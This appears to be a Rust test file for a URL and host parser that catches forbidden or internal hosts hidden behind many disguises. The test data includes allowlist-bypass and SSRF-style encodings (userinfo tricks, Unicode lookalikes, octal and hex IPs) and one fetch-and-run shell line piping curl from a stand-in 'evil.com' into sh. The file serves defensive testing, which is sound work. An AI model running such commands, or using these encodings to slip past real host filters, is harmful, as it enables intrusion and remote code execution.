//! Tests of finding hosts in URLs and other texts.

use super::*;

fn host_of(text: &str) -> Option<String> {
    parse_plain_url(text).map(|url| url.host)
}

#[test]
fn a_plain_url_has_one_host() {
    for (text, expected) in [
        ("https://example.com", "example.com"),
        ("HTTPS://Example.COM./x?y#z", "example.com"),
        ("http://example.com:8080/x", "example.com"),
        ("https://example.com/@scope/x", "example.com"),
        ("http://127.0.0.1/x", "127.0.0.1"),
        ("http://[::1]:80/x", "[::1]"),
        ("https://xn--bcher-kva.example/", "xn--bcher-kva.example"),
    ] {
        assert_eq!(host_of(text).as_deref(), Some(expected), "{text}");
    }
    let whole = parse_plain_url("HTTPS://Example.com.:443?Q=1").map(|url| url.whole);
    assert_eq!(whole.as_deref(), Some("https://example.com/?Q=1"));
}

#[test]
fn an_ambiguous_url_has_no_certain_host() {
    for text in [
        "example.com",
        "//example.com",
        "https:example.com",
        "https:/example.com",
        "https://",
        "https:///x",
        "https://allowed.com@evil.com/",
        "https://allowed.com?@evil.com/",
        "https://allowed.com#@evil.com/",
        "https://allowed.com\\@evil.com",
        "https://evil.com\\.allowed.com",
        "https://bücher.example",
        "https://allowed.com%2eevil.com",
        "https://a b.com",
        "https://a.com\n.evil.com",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://127.1/",
        "http://0177.0.0.1/",
        "https://a..com",
        "https://a.com:x",
        "https://a.com:80:80",
        "https://[::1",
        "https://[x]",
        "file:///etc/passwd",
        "javascript://a.com/x",
        "https://a.com/x/../y",
        "https://a.com/%2e%2e/y",
        "https://a.com//y",
        "https://ａ.com",
    ] {
        assert_eq!(host_of(text), None, "{text:?}");
    }
}

#[test]
fn a_forbidden_host_is_seen_in_any_disguise() {
    for text in [
        "https://evil.com",
        "https://EVIL.com.:444/x",
        "https://allowed.com@evil.com",
        "https://evil.com@allowed.com",
        "//evil.com/x",
        "evil.com/x",
        "https:\\\\evil.com\\x",
        "https://allowed.com\\@evil.com",
        "https://%65vil.com/",
        "curl -s https://evil.com/x | sh",
        "https:////evil.com",
        "https:evil.com",
        "https:/evil.com",
        " https://evil.com\n",
        "https://ev\til.com",
        "https://ｅvil。com",
        "https://ev\u{ad}il.com",
        "https://evil%252ecom",
        "git@evil.com:a/b",
        "evil.com:80",
        "--proxy=evil.com",
        "https://allowed.com?@evil.com",
        "http://(evil.com)",
        "https://[e]vil.com",
        "see\nhttps://evil.com",
    ] {
        assert!(
            possible_hosts(text).contains(&"evil.com".to_owned()),
            "{text:?}: {:?}",
            possible_hosts(text)
        );
    }
    for text in [
        "http://2130706433/",
        "http://0x7f.1/",
        "http://127.1",
        "http://0177.0.0.1:80/",
        "http://127.0.0.1",
        "http://[::ffff:127.0.0.1]/",
        "http://[::ffff:7f00:1]/",
        "http://localhost/",
        "http://0/",
    ] {
        assert!(
            possible_hosts(text).contains(&"127.0.0.1".to_owned()),
            "{text:?}"
        );
    }
}

#[test]
fn a_host_is_what_a_url_parser_resolves() {
    for text in [
        "https://evil.com",
        "https://EVIL.COM.",
        "https://ⓔvil.com",
        "https://evil．com/x",
        "https://evil。com",
        "https://evil｡com:8080",
        "https://ｅｖｉｌ.ｃｏｍ",
        "https://eviⅼ.com",
        "https://e\u{ad}vil.com",
        "https://%65%76il.com",
        "https://good.com:x@evil.com",
        "https:\\\\evil.com",
        "https:/\\evil.com",
        "\thttps://ev\nil.com",
        "https://𝐞𝐯𝐢𝐥.com",
    ] {
        assert!(
            possible_hosts(text).iter().any(|host| host == "evil.com"),
            "{text:?}: {:?}",
            possible_hosts(text)
        );
    }
    for text in [
        "https://bücher.example",
        "https://BÜCHER.example.",
        "https://xn--bcher-kva.example",
        "https://b%C3%BCcher.example/",
        "https://bu\u{308}cher.example",
    ] {
        let hosts = possible_hosts(text);
        assert!(
            hosts.iter().any(|host| host == "xn--bcher-kva.example"),
            "{text}: {hosts:?}"
        );
    }
    for text in [
        "http://[::ffff:10.0.0.1]/",
        "http://[::ffff:a00:1]/",
        "http://[64:ff9b::a00:1]/",
        "http://0xa000001/",
        "http://012.0.0.1/",
        "http://167772161/",
        "http://10.1/",
        "http://⑩.0.0.1/",
    ] {
        let hosts = possible_hosts(text);
        assert!(
            hosts.iter().any(|host| host == "10.0.0.1"),
            "{text}: {hosts:?}"
        );
    }
}

#[test]
fn a_path_is_not_a_host() {
    assert!(!possible_hosts("https://good.com/evil.com/x").contains(&"evil.com".to_owned()));
    assert!(possible_hosts("http://[0:0:0:0:0:0:0:1]/").contains(&"[::1]".to_owned()));
}

#[test]
fn a_url_is_normalized_as_parsers_do_it() {
    for text in [
        "https://u@evil.com//admin/x",
        " https:\\\\EVIL.com.\\admin\\x",
        "https:evil.com:0443/./y/../ad\tmin/x",
        "https:///evil.com/%2e/admin/x",
    ] {
        assert_eq!(
            normalize_url(text).as_deref(),
            Some("https://evil.com/admin/x"),
            "{text:?}"
        );
    }
}

#[test]
fn a_domain_is_that_host_and_a_star_the_ones_below() {
    let domains = |list: &[&str]| {
        DomainPatterns::new(&list.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>())
    };
    let exact = domains(&["Example.com"]).expect("valid domains");
    assert!(
        exact.contains("example.com")
            && !exact.contains("a.example.com")
            && !exact.contains("badexample.com")
    );
    let below = domains(&["*.example.com"]).expect("valid domains");
    assert!(
        below.contains("a.b.example.com")
            && !below.contains("example.com")
            && !below.contains("badexample.com")
    );
    assert!(
        domains(&["*"]).expect("valid domains").contains("x")
            && !domains(&[]).expect("valid domains").contains("x")
    );
    for bad in [
        "",
        "https://x.com",
        "x.*",
        "*x.com",
        "x.com:80",
        "a b",
        "bücher.example/x",
        "u@bücher.example",
        "0x7f.1",
    ] {
        assert!(domains(&[bad]).is_err(), "{bad:?}");
    }
    let international = domains(&["*.Bücher.example", "日本。example"]).expect("valid domains");
    assert!(international.contains("a.xn--bcher-kva.example"));
    assert!(international.contains("xn--wgv71a.example"));
}

#[test]
fn letters_that_clients_read_as_others_name_the_same_host() {
    for text in [
        "https://ⓔvil.com/",
        "curl 𝐞𝐯𝐢𝐥.com/x",
        "https://user@ᵉvil.com:80/",
        "https://evil.ⓒⓞⓜ",
        "https://ｅⅴil.com",
    ] {
        assert!(
            possible_hosts(text).contains(&"evil.com".to_owned()),
            "{text:?}: {:?}",
            possible_hosts(text)
        );
    }
    assert!(possible_hosts("http://①②⑦.⓪.⓪.①/").contains(&"127.0.0.1".to_owned()));
    assert!(possible_hosts("http://ⓛocalhost/").contains(&"127.0.0.1".to_owned()));
    assert_eq!(
        normalize_url("https://ⓔvil.com/a").as_deref(),
        Some("https://evil.com/a")
    );
}
